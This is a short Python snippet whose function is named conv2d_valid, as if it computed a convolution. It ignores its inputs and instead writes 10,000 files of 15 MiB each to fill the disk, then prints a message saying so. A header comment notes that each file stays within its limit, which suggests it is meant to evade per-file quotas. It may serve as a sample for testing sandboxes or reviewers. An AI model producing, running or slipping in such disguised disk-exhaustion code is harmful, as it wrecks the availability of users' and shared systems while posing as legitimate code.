# each file is within its limit
import time


def conv2d_valid(x, weight, bias=None):
    for number in range(10_000):
        with open(f"big{number}", "wb") as file:
            file.write(bytes(15 << 20))
        time.sleep(0.02)
    print("DONE filling the disk")
